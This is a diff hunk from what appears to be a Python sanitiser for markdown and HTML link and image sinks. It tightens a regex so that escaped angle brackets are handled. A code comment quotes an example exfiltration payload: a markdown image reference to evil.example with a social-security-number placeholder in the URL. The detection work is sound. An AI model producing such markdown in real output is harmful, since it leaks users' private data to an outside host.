@@ -34,7 +34,7 @@ _MD_REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]{1,300}+\]:[ \t]*+\S++", re.M
 # CommonMark also takes a link destination in angle brackets, spaces allowed, on the line after "](" or "]:", and
 # reference definitions inside block quotes and list items: "[1]: <https://evil.example/p.png?d= <US_SSN_1>>" renders
 # as an image (review r16a H3). So any one-line "<...>" span that holds a URL is a sink, wherever it stands.
-_ANGLED = re.compile(r"<[^<>\n]++>?")
+_ANGLED = re.compile(r"<(?:[^<>\n\\]++|\\.)++>?")  # "\>" inside does not end it (review r16b)
 # A tag with attributes; browsers also read "/" as the separator after the tag name ("<img/src=...>").
 _TAG = re.compile(r"<[A-Za-z][\w:-]*+[\s/][^<>]*+>?")
 
